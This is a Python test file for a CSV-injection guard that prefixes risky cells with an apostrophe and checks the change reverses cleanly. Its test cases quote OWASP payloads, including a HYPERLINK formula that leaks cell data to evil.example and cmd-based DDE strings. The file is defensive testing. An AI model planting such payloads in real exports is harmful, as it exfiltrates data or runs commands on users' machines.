"""Spreadsheet-safe CSV cells (OWASP CSV injection): what gets the guard and that it comes off."""

from __future__ import annotations

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from dq.csv_safety import FORMULA_TRIGGERS, neutralize, neutralize_text, restore, restore_text


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        # payloads from OWASP's CSV Injection page
        (
            '=HYPERLINK("http://evil.example/?d="&A1,"x")',
            '\'=HYPERLINK("http://evil.example/?d="&A1,"x")',
        ),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("=1+2", "'=1+2"),
        ("-", "'-"),
        ("+49 30 1234567", "'+49 30 1234567"),  # spaces: not a plain number, a spreadsheet errs
        # already guarded by someone else: one more apostrophe, so reading gives it back exactly
        ("'=schon geschützt", "''=schon geschützt"),
        # plain numbers stay numbers
        ("+4930123456", "+4930123456"),
        ("-12.50", "-12.50"),
        ("-12,50", "-12,50"),
        ("+1.5e3", "+1.5e3"),
        ("-.5", "-.5"),
        # nothing to defuse
        ("Müller GmbH", "Müller GmbH"),
        ("a=b", "a=b"),
        ("info@firma.de", "info@firma.de"),
        ("'quoted'", "'quoted'"),
        ("", ""),
    ],
)
def test_cell_guard(cell: str, written: str) -> None:
    assert neutralize_text(cell) == written
    assert restore_text(written) == cell


def test_nulls_and_non_text_columns_are_untouched() -> None:
    text = pd.Series(["=1", None, "x"], dtype="string")
    assert neutralize(text).tolist() == ["'=1", pd.NA, "x"]
    amounts = pd.Series([-12.5, 3.0])
    assert neutralize(amounts) is amounts
    flags = pd.Series([True, None], dtype="boolean")
    assert neutralize(flags) is flags


def test_categorical_and_object_columns_are_guarded() -> None:
    cat = pd.Series(["@x", "y", "@x"], dtype="category")
    assert neutralize(cat).tolist() == ["'@x", "y", "'@x"]
    obj = pd.Series(["-x", None], dtype=object)
    assert neutralize(obj).tolist() == ["'-x", pd.NA]


@given(st.text())
def test_restore_inverts_neutralize(cell: str) -> None:
    assert restore_text(neutralize_text(cell)) == cell


@given(st.text(min_size=1))
def test_a_guarded_cell_never_starts_a_formula(cell: str) -> None:
    written = neutralize_text(cell)
    if written[0] in FORMULA_TRIGGERS:
        assert written == cell  # only plain numbers start with + or -
        float(written.replace(",", "."))


def test_restore_leaves_an_unguarded_table_alone() -> None:
    values = pd.Series(["a", "+4930123456", "'x"], dtype="string")
    assert restore(values) is values
